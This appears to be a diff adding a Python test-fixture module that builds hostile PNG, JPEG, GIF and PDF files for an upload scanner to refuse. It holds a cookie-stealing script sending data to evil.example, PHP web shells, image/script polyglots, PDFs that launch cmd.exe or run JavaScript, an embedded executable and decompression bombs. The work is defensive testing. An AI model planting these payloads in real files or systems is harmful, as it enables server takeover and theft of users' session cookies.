@@ -1,0 +1,347 @@
+"""Hostile images and PDFs, built the way attackers build them (issue 9's list).
+
+`hostile()` lists (filename, builder, expected): `expected` is the `found` code of an
+unsafe_content refusal, or the error code when the refusal comes earlier (libmagic says
+the bytes are not the type the name claims). Payloads sit past the first 64 KiB wherever
+the old regex over the head would have missed them.
+"""
+
+from __future__ import annotations
+
+import io
+import random
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from functools import cache
+
+from . import corpus
+
+HTML_PAGE = (
+    b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body>\n"
+    b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
+    b"<p>Your invoice is ready.</p></body></html>\n"
+)
+PHP = b"<?php system($_GET['c']); ?>"
+
+
+# --- PNG -------------------------------------------------------------------------------
+
+
+def png_chunk(ctype: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))
+
+
+def png_with_chunk_before_iend(ctype: bytes, data: bytes) -> bytes:
+    """An honest 200 KB noise PNG with one more chunk just before IEND (past 64 KiB)."""
+    png = corpus.noise_png(1, 200_000)
+    return png[:-12] + png_chunk(ctype, data) + png[-12:]
+
+
+def png_text(text: bytes) -> bytes:
+    return png_with_chunk_before_iend(b"tEXt", b"Comment\0" + text)
+
+
+def png_ztxt(text: bytes) -> bytes:
+    return png_with_chunk_before_iend(b"zTXt", b"Comment\0\0" + zlib.compress(text))
+
+
+def png_itxt(text: bytes) -> bytes:
+    return png_with_chunk_before_iend(b"iTXt", b"Description\0\1\0en\0\0" + zlib.compress(text))
+
+
+@cache
+def png_65535_square() -> bytes:
+    """A real 65535x65535 1-bit PNG (4.3 gigapixels): its IDAT inflates to 537 MB of rows."""
+    width = height = 65535
+    row = b"\0" + b"\0" * ((width + 7) // 8)
+    deflater = zlib.compressobj(9)
+    idat = b"".join(deflater.compress(row) for _ in range(height)) + deflater.flush()
+    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    return corpus_png_signature() + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
+
+
+def corpus_png_signature() -> bytes:
+    return b"\x89PNG\r\n\x1a\n"
+
+
+def png_header_only(side: int) -> bytes:
+    """Only a signature and an IHDR claiming side x side: what a decoder allocates from."""
+    return corpus_png_signature() + png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
+
+
+# --- JPEG and GIF ----------------------------------------------------------------------
+
+
+def jpeg_patched_to_65535() -> bytes:
+    """A real photo whose frame header (SOF0) says 65535x65535."""
+    data = bytearray(corpus.noise_jpeg(3, 80_000))
+    sof = data.index(b"\xff\xc0")
+    data[sof + 5 : sof + 9] = b"\xff\xff\xff\xff"
+    return bytes(data)
+
+
+def gif_patched_to_65535() -> bytes:
+    data = bytearray(corpus.noise_gif(3, 60_000))
+    data[6:10] = b"\xff\xff\xff\xff"
+    return bytes(data)
+
+
+def jpeg_shell_php() -> bytes:
+    """`shell.php.jpg`: a real photo, padding past 64 KiB, then PHP for an include() to run."""
+    return corpus.noise_jpeg(4, 30_000) + b"\0" * 70_000 + PHP
+
+
+def jpeg_with_comment(text: bytes) -> bytes:
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.frombytes("RGB", (300, 300), random.Random(5).randbytes(270_000)).save(out, "JPEG", comment=text)
+    return out.getvalue()
+
+
+def jpeg_with_xmp(xmp: bytes) -> bytes:
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.frombytes("RGB", (300, 300), random.Random(6).randbytes(270_000)).save(out, "JPEG", xmp=xmp)
+    return out.getvalue()
+
+
+def gif_with_comment(text: bytes) -> bytes:
+    from PIL import Image
+
+    out = io.BytesIO()
+    image = Image.frombytes("P", (200, 200), random.Random(8).randbytes(40_000))
+    image.save(out, "GIF", comment=text)
+    return out.getvalue()
+
+
+def gif_js_polyglot() -> bytes:
+    """Valid-looking GIF header whose width bytes open a JS comment: the file runs as a script."""
+    return b"GIF89a/*\x0a\x00\x00\x00\x00*/=1;alert(document.domain);/*" + b"\x00" * 64 + b"*/"
+
+
+def gif_random() -> bytes:
+    return b"GIF89a" + random.Random(9).randbytes(100_000)
+
+
+def gif_screen_then_random() -> bytes:
+    """A sane 64x64 logical screen, then random bytes where blocks should be."""
+    return b"GIF89a\x40\x00\x40\x00\x00\x00\x00" + random.Random(11).randbytes(100_000)
+
+
+def jpeg_header_then_javascript() -> bytes:
+    return b"\xff\xd8\xff\xe0" + b"alert(document.cookie);var a=1;\n" * 20
+
+
+# --- PDF -------------------------------------------------------------------------------
+
+
+def raw_pdf(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
+    """A PDF written by hand, as an attacker's script writes it: object 1 is the catalog."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref)
+    return bytes(out)
+
+
+def _stream(data: bytes, extra: bytes = b"") -> bytes:
+    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"
+
+
+PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
+# 100 KB of page content first: every payload object sits past the first 64 KiB.
+CONTENT = _stream(b"BT /F1 12 Tf 72 712 Td (Hello) Tj ET\n" + b"% padding\n" * 10_000)
+
+
+def pdf_with_catalog(catalog_extra: bytes, *more: bytes, page: bytes = PAGE) -> bytes:
+    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>"
+    return raw_pdf([catalog, PAGES, page, CONTENT, *more])
+
+
+def pdf_js_in_object_stream() -> bytes:
+    """/OpenAction JavaScript inside a compressed object stream (pikepdf, object_stream_mode=generate)."""
+    import pikepdf
+
+    pdf = pikepdf.open(io.BytesIO(corpus.fpdf_document(2, seed=3)))
+    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
+    pdf.Root.OpenAction = action
+    out = io.BytesIO()
+    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
+    return out.getvalue()
+
+
+@cache
+def pdf_object_stream_bomb() -> bytes:
+    """An object stream (PDF 1.5, found through an xref stream) that inflates to 80 MB from
+    ~80 KB: one object holding a string of 80 million zeros."""
+    deflater = zlib.compressobj(9)
+    packed = deflater.compress(b"5 0 ") + deflater.compress(b"<< /Filler (")
+    packed += b"".join(deflater.compress(b"0" * 1_000_000) for _ in range(80)) + deflater.compress(b") >>")
+    packed += deflater.flush()
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number, obj in (
+        (1, b"<< /Type /Catalog /Pages 2 0 R /Filler 5 0 R >>"),
+        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
+        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"),
+        (
+            4,
+            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
+            + packed
+            + b"\nendstream",
+        ),
+    ):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
+    offsets[6] = len(out)
+    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
+    rows += [b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in (1, 2, 3, 4)]
+    rows += [b"\x02" + struct.pack(">I", 4) + b"\x00\x00", b"\x01" + struct.pack(">I", offsets[6]) + b"\x00\x00"]
+    table = b"".join(rows)
+    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
+    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
+    return bytes(out)
+
+
+def pdf_encrypted() -> bytes:
+    import pikepdf
+
+    pdf = pikepdf.open(io.BytesIO(corpus.fpdf_document(1, seed=4)))
+    out = io.BytesIO()
+    pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user="", R=6))
+    return out.getvalue()
+
+
+def pdf_with_zip_appended() -> bytes:
+    """A PDF with a JAR (a zip) after its %%EOF: the GIFAR/PDF+JAR trick."""
+    jar = io.BytesIO()
+    with zipfile.ZipFile(jar, "w") as archive:
+        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
+        archive.writestr("Evil.class", random.Random(10).randbytes(5000))
+    return corpus.fpdf_document(1, seed=2) + jar.getvalue()
+
+
+def html_with_pdf_header_at_100() -> bytes:
+    return b"<!DOCTYPE html><html><head><title>x</title></head><body><!-- " + b"x" * 40 + b" -->%PDF-1.7\n" + HTML_PAGE
+
+
+def hostile() -> list[tuple[str, Callable[[], bytes], str]]:
+    """Every hostile image and PDF: (filename, builder, expected found or error code)."""
+    return [
+        # PDF actions, JavaScript and embedded content
+        ("invoice.pdf", pdf_js_in_object_stream, "pdf_javascript"),
+        (
+            "js-hex.pdf",
+            lambda: pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
+            "pdf_javascript",
+        ),
+        (
+            "names-js.pdf",
+            lambda: pdf_with_catalog(
+                b"/Names << /JavaScript 5 0 R >>",
+                b"<< /Names [(a) 6 0 R] >>",
+                b"<< /S /JavaScript /JS (app.alert(1)) >>",
+            ),
+            "pdf_javascript",
+        ),
+        ("orphan-js.pdf", lambda: pdf_with_catalog(b"", b"<< /S /JavaScript /JS (app.alert(1)) >>"), "pdf_javascript"),
+        ("launch.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"), "pdf_action"),
+        (
+            "submit.pdf",
+            lambda: pdf_with_catalog(
+                b"", page=PAGE[:-2] + b"/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >> >>"
+            ),
+            "pdf_action",
+        ),
+        ("import.pdf", lambda: pdf_with_catalog(b"", b"<< /S /ImportData /F (data.fdf) >>"), "pdf_action"),
+        (
+            "open-uri.pdf",
+            lambda: pdf_with_catalog(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
+            "pdf_action",
+        ),
+        (
+            "open-uri-ref.pdf",
+            lambda: pdf_with_catalog(b"/OpenAction 5 0 R", b"<< /S /URI /URI (https://evil.example/) >>"),
+            "pdf_action",
+        ),
+        (
+            "aa-uri-chain.pdf",
+            lambda: pdf_with_catalog(
+                b"/AA 5 0 R",
+                b"<< /WC 6 0 R >>",
+                b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>",
+                b"<< /S /URI /URI (https://evil.example/) >>",
+            ),
+            "pdf_action",
+        ),
+        (
+            "attached.pdf",
+            lambda: pdf_with_catalog(
+                b"/Names << /Embedded#46iles 5 0 R >>",
+                b"<< /Names [(a.exe) 6 0 R] >>",
+                b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
+                _stream(b"MZ" + b"\0" * 100, b"/Type /Embedded#46ile "),
+            ),
+            "pdf_embedded_file",
+        ),
+        (
+            "flash.pdf",
+            lambda: pdf_with_catalog(b"", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"),
+            "pdf_rich_media",
+        ),
+        (
+            "form.pdf",
+            lambda: pdf_with_catalog(b"/AcroForm << /Fields [] /XFA 5 0 R >>", _stream(b"<xdp:xdp/>")),
+            "pdf_xfa",
+        ),
+        ("locked.pdf", pdf_encrypted, "pdf_encrypted"),
+        ("bomb.pdf", pdf_object_stream_bomb, "pdf_limits"),
+        # PDF structure
+        ("jar.pdf", pdf_with_zip_appended, "trailing_data"),
+        ("page.pdf", lambda: b"%PDF-1.7\n" + HTML_PAGE * 40, "trailing_data"),
+        ("page2.pdf", html_with_pdf_header_at_100, "leading_data"),
+        # images: dimensions
+        ("huge.png", png_65535_square, "image_dimensions"),
+        ("claims.png", lambda: png_header_only(2**31), "image_dimensions"),
+        ("claims2.png", lambda: png_header_only(2**31 - 1), "image_dimensions"),
+        ("patched.jpg", jpeg_patched_to_65535, "image_dimensions"),
+        ("patched.gif", gif_patched_to_65535, "image_dimensions"),
+        # images: structure and trailing bytes
+        ("cut.png", lambda: corpus.noise_png(2, 60_000)[:40], "malformed"),
+        ("random.gif", gif_random, "image_dimensions"),
+        ("random2.gif", gif_screen_then_random, "malformed"),
+        ("polyglot.gif", gif_js_polyglot, "markup"),
+        ("script.jpg", jpeg_header_then_javascript, "malformed"),
+        (
+            "after-iend.png",
+            lambda: corpus.noise_png(3, 120_000) + b"<script>alert(document.cookie)</script>",
+            "trailing_data",
+        ),
+        ("shell.php.jpg", jpeg_shell_php, "trailing_data"),
+        ("after-trailer.gif", lambda: corpus.noise_gif(4, 90_000) + HTML_PAGE, "trailing_data"),
+        # images: markup where text lives
+        ("onerror.png", lambda: png_text(b'<img src=x onerror="alert(1)">'), "markup"),
+        ("onload.png", lambda: png_ztxt(b"<body onload=alert(1)>"), "markup"),
+        (
+            "refresh.png",
+            lambda: png_itxt(b'<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
+            "markup",
+        ),
+        ("echo.png", lambda: png_text(b"<?=`$_GET[c]`?>"), "markup"),
+        ("utf16.png", lambda: png_text("<script>alert(1)</script>".encode("utf-16-le")), "markup"),
+        ("private.png", lambda: png_with_chunk_before_iend(b"prVt", HTML_PAGE), "markup"),
+        ("comment.jpg", lambda: jpeg_with_comment(b"<script>alert(1)</script>"), "markup"),
+        ("xmp.jpg", lambda: jpeg_with_xmp(b'<x:xmpmeta><svg onload="alert(1)"/></x:xmpmeta>'), "markup"),
+        ("php.jpg", lambda: jpeg_with_comment(PHP), "markup"),
+        ("comment.gif", lambda: gif_with_comment(b"<iframe src=javascript:alert(1)>"), "markup"),
+    ]
